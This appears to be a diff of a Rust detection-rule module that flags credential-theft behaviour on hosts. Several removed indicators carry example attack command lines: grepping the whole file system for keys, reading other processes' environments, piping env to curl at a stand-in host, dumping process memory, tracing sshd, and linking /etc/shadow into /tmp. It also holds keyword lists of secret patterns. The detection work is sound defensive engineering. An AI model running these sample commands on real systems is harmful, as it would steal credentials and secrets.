@@ -1,11 +1,11 @@
 //! Credentials: reading them, searching for them, asking a metadata service or the cluster for them.
 
+use super::key_search::is_sensitive_target;
 use super::seen::Seen;
 use super::words::holds_any;
 use super::{Finds, Hit, Indicator};
 use crate::analysis::facts::Facts;
 use crate::analysis::paths;
-use crate::cmdline::NestedKind;
 
 pub(super) const ROWS: &[Indicator] = &[
     Indicator {
@@ -86,60 +86,6 @@ pub(super) const ROWS: &[Indicator] = &[
             "curl -H Authorization: Bearer eyJ --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default/api",
         )],
         look_alike: &[("proc.cmdline", "curl -H Authorization: Bearer eyJ https://api.shop.example/orders")],
-    },
-    Indicator {
-        id: "key-search-everywhere",
-        finds: Finds::Command(&["grep", "egrep", "fgrep", "rg", "ag", "find", "locate", "mlocate"], |seen| {
-            searches_secrets(seen) && is_wide(seen)
-        }),
-        weight: 75,
-        techniques: &["T1552.001", "T1552.004"],
-        reason: "It searches the whole file system for keys or passwords; a check of one's own files stays in one's own directory.",
-        refuted_by: "A secret scanner of yours that was started at this time.",
-        example: &[("proc.cmdline", "grep -r aws_secret_access_key / --include=*.env")],
-        look_alike: &[("proc.cmdline", "grep -rn aws_secret_access_key ./src")],
-    },
-    Indicator {
-        id: "private-key-file-search",
-        finds: Finds::Command(&["find", "locate", "mlocate", "fd"], |seen| {
-            seen.any_arg(|arg| {
-                holds_any(
-                    arg,
-                    &[
-                        "id_rsa",
-                        "id_dsa",
-                        "id_ed25519",
-                        "id_ecdsa",
-                        ".aws/credentials",
-                        "kubeconfig",
-                        ".kdbx",
-                        ".git-credentials",
-                        ".pgpass",
-                        "wp-config.php",
-                        ".docker/config.json",
-                        "authorized_keys",
-                    ],
-                )
-            }) && !seen.has_arg(&["-delete"])
-        }),
-        weight: 70,
-        techniques: &["T1552.004"],
-        reason: "It looks for files that are known to hold keys, by their names, not knowing where they are.",
-        refuted_by: "An inventory or compliance tool of yours that was started at this time.",
-        example: &[("proc.cmdline", "find . -name *id_rsa*")],
-        look_alike: &[("proc.cmdline", "find . -name *.rs")],
-    },
-    Indicator {
-        id: "key-search",
-        finds: Finds::Command(&["grep", "egrep", "fgrep", "rg", "ag", "git"], |seen| {
-            searches_secrets(seen) && !is_wide(seen)
-        }),
-        weight: 35,
-        techniques: &["T1552.001"],
-        reason: "It searches files for keys or passwords.",
-        refuted_by: "A secret scanner in a build, or a developer looking through a checkout.",
-        example: &[("proc.cmdline", "grep -rn aws_secret_access_key ."), ("proc.cwd", "/builds/acme/infra")],
-        look_alike: &[("proc.cmdline", "grep -rn aws_region .")],
     },
     Indicator {
         id: "credential-files-read-by-hand",
@@ -233,105 +179,6 @@ pub(super) const ROWS: &[Indicator] = &[
         look_alike: &[("fd.nameraw", "/usr/lib/x/../../../etc/ssl/openssl.cnf"), ("fd.name", "/etc/ssl/openssl.cnf")],
     },
     Indicator {
-        id: "environment-of-other-processes",
-        finds: Finds::Command(&["cat", "strings", "xargs", "grep", "tr", "sed", "head", "cut"], |seen| {
-            let all = seen.args().chain(seen.read());
-            all.into_iter()
-                .any(|text| text.starts_with("/proc/") && text.ends_with("/environ") && !text.contains("/self/"))
-        }),
-        weight: 50,
-        techniques: &["T1552.007", "T1057"],
-        reason: "It reads other processes' environments, where passwords and tokens are passed.",
-        refuted_by: "Somebody debugged this container at this time.",
-        example: &[("proc.cmdline", "cat /proc/1/environ")],
-        look_alike: &[("proc.cmdline", "cat /proc/self/environ")],
-    },
-    Indicator {
-        id: "environment-sent-away",
-        finds: Finds::Command(&["env", "printenv", "set", "export", "cat"], |seen| {
-            let dumps = seen.name != "cat" || any_text(seen, |text| text.ends_with("/environ"));
-            dumps && seen.feeds(|next| matches!(next.family(), "curl" | "nc" | "wget" | "socat" | "telnet"))
-        }),
-        weight: 80,
-        techniques: &["T1552.007", "T1041"],
-        reason: "The environment, with the passwords and tokens in it, is sent over the network.",
-        refuted_by: "Nothing that is known to be harmless does this.",
-        example: &[("proc.cmdline", "sh -c env | curl -X POST --data-binary @- https://a.example/c")],
-        look_alike: &[("proc.cmdline", "sh -c env | sort")],
-    },
-    Indicator {
-        id: "environment-searched-for-secrets",
-        finds: Finds::Command(&["grep", "egrep"], |seen| {
-            let words = ["token", "secret", "passw", "aws", "key", "cred"];
-            seen.fed_by(|c| matches!(c.program(), "env" | "printenv" | "set" | "export"))
-                && seen.any_arg(|arg| holds_any(arg, &words))
-        }),
-        weight: 45,
-        techniques: &["T1552.007"],
-        reason: "It looks through the environment for passwords and tokens.",
-        refuted_by: "Somebody debugged this container's configuration at this time.",
-        example: &[("proc.cmdline", "sh -c env | grep -iE token|secret")],
-        look_alike: &[("proc.cmdline", "sh -c env | grep PATH")],
-    },
-    Indicator {
-        id: "process-memory-dumped",
-        finds: Finds::Command(&["gcore", "procdump", "gdb", "dd", "strings", "cat", "mimipenguin"], |seen| match seen
-            .name
-        {
-            "gcore" | "procdump" | "mimipenguin" => true,
-            "gdb" => seen.any_arg(|arg| arg.contains("dump memory") || arg.contains("gcore") || arg == "memory"),
-            _ => any_text(seen, |text| text.contains("/proc/") && text.ends_with("/mem")),
-        }),
-        weight: 60,
-        techniques: &["T1003.007"],
-        reason: "A process's memory is written out, with whatever keys and passwords it holds.",
-        refuted_by: "A developer who collected a core dump at this time.",
-        example: &[("proc.cmdline", "gcore -o /tmp/d 812")],
-        look_alike: &[("proc.cmdline", "gdb -p 4232")],
-    },
-    Indicator {
-        id: "login-traced",
-        finds: Finds::Command(&["strace", "ltrace", "gdb"], |seen| {
-            seen.any_arg(|arg| holds_any(arg, &["sshd", "pidof ssh", "sudo", "login"]))
-                || seen.nested(&[NestedKind::Substitution], |c| c.arg_texts().any(|arg| arg.contains("sshd")))
-        }),
-        weight: 60,
-        techniques: &["T1056", "T1003"],
-        reason: "The login service is traced, which shows the passwords that people type.",
-        refuted_by: "An administrator who debugged logins at this time.",
-        example: &[("proc.cmdline", "sh -c strace -f -e trace=write -p $(pgrep -f sshd)")],
-        look_alike: &[("proc.cmdline", "sh -c strace -f -p 812")],
-    },
-    Indicator {
-        id: "link-to-sensitive-file",
-        finds: Finds::Facts(|facts| {
-            let from = facts.get("evt.arg.target").or_else(|| facts.get("evt.arg.oldpath"))?;
-            let to = facts.get("evt.arg.linkpath").or_else(|| facts.get("evt.arg.newpath"))?;
-            let secret = is_sensitive_target(from)
-                && (super::execution::is_scratch(to) || to.starts_with("/home/") || to.starts_with("/var/www"));
-            secret.then(|| Hit::of("evt.arg.target", from)).flatten()
-        }),
-        weight: 70,
-        techniques: &["T1555", "T1222.002"],
-        reason: "A link to a file of secrets is put where any user may read: programs that run as root follow it.",
-        refuted_by: "An installer that links this file on purpose.",
-        example: &[("evt.arg.target", "/etc/shadow"), ("evt.arg.linkpath", "/tmp/x")],
-        look_alike: &[("evt.arg.target", "/etc/ssl/certs"), ("evt.arg.linkpath", "/tmp/certs")],
-    },
-    Indicator {
-        id: "link-command-to-sensitive-file",
-        finds: Finds::Command(&["ln"], |seen| {
-            seen.operands().next().is_some_and(is_sensitive_target)
-                && seen.operands().nth(1).is_some_and(super::execution::is_scratch)
-        }),
-        weight: 70,
-        techniques: &["T1555"],
-        reason: "A link to a file of secrets is put where any user may read.",
-        refuted_by: "An installer that links this file on purpose.",
-        example: &[("proc.cmdline", "ln -s /etc/shadow /tmp/.s")],
-        look_alike: &[("proc.cmdline", "ln -s /etc/localtime /tmp/tz")],
-    },
-    Indicator {
         id: "database-command-execution",
         finds: Finds::Command(&["psql", "mysql", "mariadb", "redis-cli", "mongo", "mongosh"], |seen| {
             let text: String = seen.args().collect::<Vec<_>>().join(" ").to_ascii_lowercase();
@@ -355,24 +202,6 @@ pub(super) const ROWS: &[Indicator] = &[
         refuted_by: "A maintenance script of yours that loads or unloads data so.",
         example: &[("proc.cmdline", "redis-cli -h 10.0.0.5 config set dir /var/spool/cron/")],
         look_alike: &[("proc.cmdline", "redis-cli -h 10.0.0.5 config get maxmemory")],
-    },
-    Indicator {
-        id: "login-keys-collected",
-        finds: Finds::Command(&["cp", "tar", "zip", "rsync", "mv", "7z", "scp", "cat", "base64"], |seen| {
-            let keys = |text: &str| {
-                let text = text.trim_end_matches('/');
-                text.ends_with("/.ssh") || text.contains("/.ssh/id_") || text.ends_with("/.ssh/*")
-            };
-            let away = seen.operands().chain(seen.written()).any(super::execution::is_scratch)
-                || seen.operands().any(|arg| arg.contains("://"));
-            any_text(seen, keys) && away
-        }),
-        weight: 72,
-        techniques: &["T1552.004", "T1074.001"],
-        reason: "Login keys are copied together in scratch space: the step before they are taken away.",
-        refuted_by: "A backup or migration of this account that you run.",
-        example: &[("proc.cmdline", "cp -r /root/.ssh /tmp/.s")],
-        look_alike: &[("proc.cmdline", "cp -r /root/.ssh /root/.ssh.bak")],
     },
 ];
 
@@ -400,7 +229,7 @@ fn asks(seen: &Seen<'_, '_>, parts: &[&str]) -> bool {
     (seen.is_download() || seen.code().is_some()) && any_text(seen, |text| holds_any(text, parts))
 }
 
-fn any_text(seen: &Seen<'_, '_>, f: impl FnMut(&str) -> bool) -> bool {
+pub(super) fn any_text(seen: &Seen<'_, '_>, f: impl FnMut(&str) -> bool) -> bool {
     seen.args().chain(seen.read()).any(f)
 }
 
@@ -412,52 +241,6 @@ fn is_shadow(text: &str) -> bool {
 
 fn ships(name: &str) -> bool {
     matches!(name, "curl" | "nc" | "base64" | "xxd" | "openssl" | "wget" | "telnet" | "gzip" | "socat")
-}
-
-/// Whether its pattern is the name of a key or the beginning of one.
-fn searches_secrets(seen: &Seen<'_, '_>) -> bool {
-    let words = [
-        "aws_access_key",
-        "aws_secret_access",
-        "AKIA",
-        "BEGIN RSA",
-        "BEGIN OPENSSH",
-        "BEGIN PRIVATE",
-        "BEGIN DSA",
-        "BEGIN EC",
-        "PRIVATE KEY",
-        "id_rsa",
-        "id_dsa",
-        "id_ed25519",
-        "id_ecdsa",
-        "password=",
-        "passwd=",
-        "ghp_",
-        "xoxb-",
-        "secret_key",
-        "api_key",
-        "apikey",
-        "_TOKEN",
-        "client_secret",
-    ];
-    let text: String = seen.args().collect::<Vec<_>>().join(" ");
-    holds_any(&text, &words)
-        || (seen.name != "git"
-            && seen.command.has_option('r', "recursive")
-            && seen.operands().next().is_some_and(|p| matches!(p, "password" | "passwd" | "secret" | "token" | "pass")))
-}
-
-/// Whether it goes through the whole file system, and not a directory of one's own.
-fn is_wide(seen: &Seen<'_, '_>) -> bool {
-    let top = [
-        "/", "/root", "/home", "/etc", "/var", "/opt", "/usr", "/mnt", "/srv", "/proc", "/run", "/root/", "/home/",
-        "/etc/", "/var/", "/*",
-    ];
-    let relative = ["bin", "boot", "dev", "etc", "home", "lib", "proc", "root", "sbin", "var", "usr"];
-    let operands = seen.operands();
-    let named = operands.clone().filter(|word| relative.contains(word)).count();
-    let here = seen.facts.process.cwd == Some("/") && (seen.has_arg(&[".", "./", "*"]));
-    operands.clone().any(|word| top.contains(&word)) || named >= 3 || here
 }
 
 /// How many different stores of credentials its words name.
@@ -486,28 +269,6 @@ pub(super) fn stores(seen: &Seen<'_, '_>) -> usize {
         return 0;
     }
     STORES.iter().filter(|names| any_text(seen, |text| names.iter().any(|name| text.contains(name)))).count()
-}
-
-/// A file of secrets, or a directory that holds such.
-fn is_sensitive_target(path: &str) -> bool {
-    let path = path.trim_end_matches('/');
-    matches!(
-        path,
-        "/etc"
-            | "/"
-            | "/root"
-            | "/root/.ssh"
-            | "/etc/shadow"
-            | "/etc/gshadow"
-            | "/etc/sudoers"
-            | "/etc/sudoers.d"
-            | "/etc/passwd"
-            | "/etc/pam.conf"
-            | "/etc/pam.d"
-            | "/etc/security"
-    ) || path.contains("/.ssh/id_")
-        || path.ends_with("/.aws/credentials")
-        || path.ends_with("/.kube/config")
 }
 
 /// Whether the alert's own file is one of secrets that any shell below a server should not touch.
